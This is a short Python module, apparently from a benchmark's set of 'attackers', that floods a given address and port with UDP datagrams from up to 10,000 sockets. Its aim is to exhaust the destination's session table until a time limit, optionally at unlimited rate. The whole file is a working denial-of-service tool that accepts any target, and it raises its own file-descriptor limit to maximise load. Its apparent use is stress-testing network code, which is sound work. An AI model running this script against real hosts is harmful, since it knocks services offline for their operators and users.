"""UDP sessions without end: `python -m bench.attackers.sessions SECONDS ADDRESS PORT [PORTS [RATE]]`.

Sends a datagram from each of PORTS ports in turn (10,000 by default), so that each is a session of the destination's.
It ends by itself after SECONDS. RATE is datagrams a second; 0, the default, is as many as go.
"""

from __future__ import annotations

import resource
import socket
import sys
import time
from contextlib import suppress
from itertools import count


def attack(until: float, address: str, port: int, most: int = 10_000, pace: int = 0) -> None:
    """Open sessions without end, until that time of the monotonic clock."""
    _, files = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (files, files))
    socks: list[socket.socket] = []
    begin = time.monotonic()
    for number in count():
        with suppress(OSError):
            if len(socks) < min(most, files - 100):
                socks.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK))
                socks[-1].connect((address, port))
                socks[-1].send(b"flood")
            else:
                socks[number % len(socks)].send(b"flood")
        if number % 20 == 0:
            now = time.monotonic()
            if now > until:
                return
            if pace and number / pace > now - begin:
                time.sleep(number / pace - (now - begin))  # noqa: TID251 — it waits for nothing but the time


def main(seconds: str, address: str, port: str, ports: str = "10000", rate: str = "0") -> None:
    """Attack."""
    attack(time.monotonic() + float(seconds), address, int(port), int(ports), int(rate))


if __name__ == "__main__":
    main(*sys.argv[1:])
